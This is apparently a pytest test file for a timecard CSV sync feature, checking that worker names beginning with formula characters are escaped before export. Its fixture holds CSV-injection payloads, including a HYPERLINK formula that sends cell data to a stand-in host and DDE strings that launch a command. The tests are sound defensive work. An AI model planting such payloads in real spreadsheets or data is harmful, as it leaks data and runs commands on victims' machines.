"""Names that a spreadsheet would run as formulas reach the csv feed as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from sync_helpers import CSV_CONFIG, LOCATIONS, day8, ot, write_config

from ot.sync.csv_target import formula_safe

EVIL = {
    "W1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "W2": "+cmd|' /C calc'!A0",
    "C1": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.50", "-3.50"),
        ("20.00", "20.00"),
        ("Ana Chen", "Ana Chen"),
        ("'=1+1", "'=1+1"),
        ("", ""),
    ],
)
def test_formula_safe(value: str, safe: str) -> None:
    assert formula_safe(value) == safe
    assert formula_safe(formula_safe(value)) == safe  # idempotent: a kept row is not prefixed twice


def test_formula_names_reach_the_feed_as_text(cli: CliRunner, ledger_path: Path, tmp_path: Path) -> None:
    workers = "worker_id,name,type,pay_rate,location_id,manager_id,role,birth_date,ssn,pin_override\n"
    workers += "A1,Ada Admin,W2,40.00,L1,,admin,,,\nM1,Mia Manager,W2,30.00,L1,A1,manager,,,\n"
    workers += "".join(
        f'{wid},"{name.replace(chr(34), chr(34) * 2)}",W2,20.00,{"L1" if wid == "W1" else "L2"},M1,worker,,,\n'
        for wid, name in EVIL.items()
    )
    (tmp_path / "locations.csv").write_text(LOCATIONS)
    (tmp_path / "workers.csv").write_text(workers)
    ot(cli, "import", "locations", str(tmp_path / "locations.csv"))
    ot(cli, "import", "workers", str(tmp_path / "workers.csv"))
    write_config(ledger_path, CSV_CONFIG)
    for wid in EVIL:
        day8(cli, wid, "2026-10-12")
    ot(cli, "approve", "shifts", "--all-visible", "--period", "2026-10-12")
    ot(cli, "sync")
    feed = tmp_path / "feeds" / "2026-10-11_2026-10-24" / "timecards.csv"
    with feed.open(newline="", encoding="utf-8") as f:
        names = {row["worker_id"]: row["worker_name"] for row in csv.DictReader(f)}
    assert names == {wid: "'" + name for wid, name in EVIL.items()}
    for line in feed.read_text(encoding="utf-8").splitlines():
        assert not any(cell.startswith(("=", "+", "@")) for cell in line.split(","))
